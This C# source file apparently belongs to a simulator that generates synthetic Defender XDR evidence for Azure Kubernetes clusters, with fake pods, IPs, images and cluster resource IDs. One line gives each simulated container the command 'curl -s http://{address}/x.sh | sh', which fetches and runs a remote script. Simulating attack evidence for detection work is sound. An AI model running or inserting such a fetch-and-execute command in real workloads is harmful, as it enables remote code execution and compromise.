namespace DefenderXdr.Simulation;

/// <summary>A tenant's cluster, and what runs in it.</summary>
internal sealed class CloudEstate(Organisation organisation, int seed)
{
    private static readonly string[] Applications = ["web", "checkout", "search", "reports", "ingest"];

    internal KubernetesClusterEvidence Cluster { get; } = MakeCluster(organisation, new Dice(seed, "cluster"));

    /// <summary>A container of an application, in a pod of its own.</summary>
    internal ContainerEvidence Container(Dice dice, bool privileged)
    {
        var application = dice.Pick(Applications);
        var scope = new KubernetesNamespaceEvidence(application == "ingest" ? "data" : "shop", Cluster);
        var pod = new KubernetesPodEvidence(
            $"{application}-{dice.Hex(10)}-{dice.Hex(5)}", application, scope,
            new IpEvidence($"10.244.{dice.Between(0, 8)}.{dice.Between(2, 250)}", null),
            new(application + "-runner", scope));
        var image = new ContainerImageEvidence($"{organisation.Label}registry.azurecr.io/{application}:{dice.Between(1, 9)}.{dice.Between(0, 30)}", organisation.Label + "registry.azurecr.io");
        return new(dice.Hex(64), application, image, ["/bin/sh"], ["-c", "curl -s http://{address}/x.sh | sh"], privileged, pod);
    }

    private static KubernetesClusterEvidence MakeCluster(Organisation organisation, Dice dice)
    {
        var name = $"aks-{organisation.Label}-prod";
        var resource = $"/subscriptions/{dice.Guid()}/resourceGroups/rg-{organisation.Label}-prod/providers/Microsoft.ContainerService/managedClusters/{name}";
        return new(name, "1.33.4", new(resource, name, "Microsoft.ContainerService/managedClusters"));
    }
}
